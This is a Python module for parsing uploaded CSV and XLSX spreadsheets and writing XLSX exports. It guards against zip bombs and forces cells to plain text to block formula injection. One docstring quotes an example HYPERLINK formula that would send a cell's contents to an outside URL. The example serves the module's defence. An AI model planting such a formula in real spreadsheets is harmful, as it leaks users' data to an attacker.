"""Spreadsheets as the users send them: CSV (UTF-8, Excel's BOM, or GB18030 as Chinese
Excel saves it) or XLSX (first sheet). Rows come back as dicts of text by header.
And tables written as XLSX sheets the way every export here lays them out."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import zipfile
from collections.abc import Iterable
from datetime import date, datetime

from opspact.errors import Unprocessable

CSV = "text/csv"
# (header, [(line number, {column: text}), …])
Table = tuple[list[str], list[tuple[int, dict]]]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def decode(raw: bytes) -> str:
    """UTF-8 (with or without Excel's BOM), else GB18030."""
    try:
        return raw.decode("utf-8-sig")
    except UnicodeDecodeError:
        try:
            return raw.decode("gb18030")
        except UnicodeDecodeError:
            raise Unprocessable("the file is neither UTF-8 nor GB18030 text") from None


# An XLSX is a zip: 100 KB on the wire can hold a 100 MB shared string. What its parts
# unpack to is checked against this before anything is parsed (the declared sizes bound
# what zipfile will inflate: a part longer than it declares fails its CRC check).
MAX_UNPACKED_BYTES = 20 * 1024 * 1024


async def read_async(raw: bytes, content_type: str, max_rows: int) -> Table:
    """`read` in a worker thread: parsing a spreadsheet is CPU work the event loop must not do."""
    return await asyncio.to_thread(read, raw, content_type, max_rows)


def read(raw: bytes, content_type: str, max_rows: int) -> Table:
    """(header, [(line number, {column: text}), …]); a row with the wrong number of cells
    comes back with the key None so the caller can name it. Every row counts against
    `max_rows`, empty ones included (they cost as much to read)."""
    if content_type == XLSX:
        return _xlsx(raw, max_rows)
    lines = csv.reader(io.StringIO(decode(raw), newline=""))
    rows = []
    try:
        header = [h.strip() for h in next(lines, [])]
        for line, cells in enumerate(lines, start=2):  # line 1 is the header
            if line - 1 > max_rows:
                raise Unprocessable(f"more than {max_rows} rows: split the file")
            if not cells:
                continue  # a blank line (csv.DictReader skipped them too)
            record = dict(zip(header, cells, strict=False))
            if len(cells) > len(header):
                record[None] = cells[len(header):]
            elif len(cells) < len(header):
                record.update(dict.fromkeys(header[len(cells):]))
            rows.append((line, record))
    except csv.Error as exc:
        raise Unprocessable(f"not readable as CSV: {exc}") from None
    return header, rows


def _check_unpacked_size(raw: bytes) -> None:
    try:
        parts = zipfile.ZipFile(io.BytesIO(raw)).infolist()
    except (zipfile.BadZipFile, ValueError):
        raise Unprocessable("not readable as XLSX: not a zip archive") from None
    unpacked = sum(p.file_size for p in parts)
    if unpacked > MAX_UNPACKED_BYTES:
        raise Unprocessable(f"the XLSX unpacks to {unpacked} bytes, over the limit of "
                            f"{MAX_UNPACKED_BYTES}: save it without the extra sheets or formatting, "
                            "or as CSV")


def _cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value).strip()


def _xlsx(raw: bytes, max_rows: int) -> Table:
    from openpyxl import load_workbook
    _check_unpacked_size(raw)
    try:
        sheet = load_workbook(io.BytesIO(raw), read_only=True, data_only=True).worksheets[0]
    except Exception as exc:  # openpyxl raises many kinds for a file that is not XLSX
        raise Unprocessable(f"not readable as XLSX: {type(exc).__name__}") from None
    # The file's own <dimension> may be wrong (rows past it would be dropped silently) or
    # missing (openpyxl would then read the whole sheet first to find it): read row by row.
    sheet.reset_dimensions()
    lines = sheet.iter_rows(values_only=True)
    header = [_cell(h) for h in next(lines, ())]
    while header and not header[-1]:
        header.pop()
    rows = []
    for line, values in enumerate(lines, start=2):
        if line - 1 > max_rows:
            raise Unprocessable(f"more than {max_rows} rows (empty ones count): split the file")
        cells = [_cell(v) for v in values]
        if not any(cells):
            continue  # Excel leaves formatted empty rows behind
        if any("\x00" in c for c in cells):
            raise Unprocessable(f"row {line} contains NUL characters")
        record = dict(zip(header, cells, strict=False))
        if any(cells[len(header):]):
            record[None] = cells[len(header):]
        rows.append((line, record))
    return header, rows


BAD_SHEET_CHARS = re.compile(r"[\[\]:*?/\\]")


def sheet_title(caption: str, taken: set[str]) -> str:
    """A sheet name Excel accepts (≤ 31 characters, none of []:*?/\\), unique in the book."""
    base = BAD_SHEET_CHARS.sub(" ", caption)[:28] or "表"
    title, n = base, 2
    while title in taken:
        title, n = f"{base[:26]}_{n}", n + 1
    taken.add(title)
    return title


# Control characters XML 1.0 (and so XLSX) cannot carry; recorded text may hold them.
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _printable(value):
    # openpyxl refuses these characters as soon as a cell takes them
    return _NOT_IN_XLSX.sub("\ufffd", value) if isinstance(value, str) else value


def _text_only(book) -> None:
    """Every string cell is stored as text. openpyxl makes a string starting with `=` a
    formula (and `#N/A` an error value): a hook title `=HYPERLINK("http://…?leak="&D2)`
    would run in the client's Excel (OWASP: CSV/formula injection). Text from outside is
    never a formula here — and we write no formulas of our own."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"


def add_table(book, title: str, header: list[str], rows: Iterable[Iterable]) -> None:
    """A sheet of one table: bold header, frozen under it, columns as wide as their text."""
    from openpyxl.styles import Font
    sheet = book.create_sheet(title)
    sheet.append(header)
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in rows:
        sheet.append([_printable(v) for v in row])
    for column in sheet.iter_cols(min_row=1, max_row=min(sheet.max_row, 200)):
        longest = max((len(str(c.value or "")) for c in column), default=4)
        sheet.column_dimensions[column[0].column_letter].width = min(60, max(8, longest * 1.6))
    sheet.freeze_panes = "A2"


def workbook_bytes(book) -> bytes:
    """The one way a workbook leaves the product (reports, statements, ledgers, dossier)."""
    _text_only(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
